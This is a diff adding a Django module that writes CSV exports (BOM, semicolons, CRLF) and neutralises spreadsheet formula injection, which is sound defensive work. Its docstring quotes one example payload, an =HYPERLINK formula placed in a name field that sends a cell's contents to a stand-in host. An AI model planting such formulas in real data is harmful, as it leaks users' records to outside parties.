@@ -1,0 +1,82 @@
+"""Every CSV the portal writes, in one format: UTF-8 with a byte order mark (spreadsheet
+software then reads accents right), ``;`` between cells (French spreadsheets use the comma
+for decimals), CRLF line ends, and no live formula.
+
+A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would
+be run as a formula by the spreadsheet that opens the file (a first name
+``=HYPERLINK("http://x.example/?"&A1,"y")`` sends the row elsewhere): such text is prefixed
+with ``'`` and reads as text. Numbers are written as they are: a negative longitude is a
+number, not a formula. ``restore`` takes the prefix off again when the portal reads back a
+file it wrote.
+"""
+
+import csv
+from collections.abc import Iterable, Iterator
+from decimal import Decimal
+
+from django.http import HttpResponse, StreamingHttpResponse
+from django.utils.http import content_disposition_header
+
+BOM = "\ufeff"
+CONTENT_TYPE = "text/csv; charset=utf-8"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value) -> str | int | float | Decimal:
+    """The cell as written: ``None`` is empty, numbers stay numbers, text that a
+    spreadsheet would run as a formula gets a leading ``'``."""
+    if value is None:
+        return ""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return value
+    text = str(value)
+    # Text already quoted by hand (``'=1``) gets one more quote, so that ``restore`` gives
+    # back exactly what was typed.
+    return "'" + text if text.lstrip("'").startswith(FORMULA_STARTS) else text
+
+
+def restore(text: str) -> str:
+    """The text of a cell ``neutralise`` prefixed, as it was typed."""
+    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
+        return text[1:]
+    return text
+
+
+class _Echo:
+    """A file-like object whose ``write`` hands the line back (for streaming)."""
+
+    def write(self, value):
+        return value
+
+
+def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
+    """The file line by line (the first one carries the byte order mark)."""
+    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
+    prefix = BOM
+    for row in rows:
+        yield prefix + writer.writerow([neutralise(value) for value in row])
+        prefix = ""
+    if prefix:
+        yield prefix
+
+
+def csv_text(rows: Iterable[Iterable]) -> str:
+    return "".join(csv_lines(rows))
+
+
+def csv_response(rows: Iterable[Iterable], *, filename: str, streaming: bool = False):
+    """A download of ``rows`` (the header first). ``streaming`` for big exports: lines are
+    written as the rows are read (give it an ``iterator()``), nothing is held in memory."""
+    if streaming:
+        response = StreamingHttpResponse(csv_lines(rows), content_type=CONTENT_TYPE)
+    else:
+        response = HttpResponse(csv_text(rows), content_type=CONTENT_TYPE)
+    response["Content-Disposition"] = content_disposition_header(True, filename)
+    return response
+
+
+def write_csv(out, rows: Iterable[Iterable]) -> None:
+    """Write ``rows`` to a text stream (a command's ``self.stdout``, a file) in the same
+    format as a download, so that ``> bilan.csv`` opens as it should."""
+    for line in csv_lines(rows):
+        out.write(line)
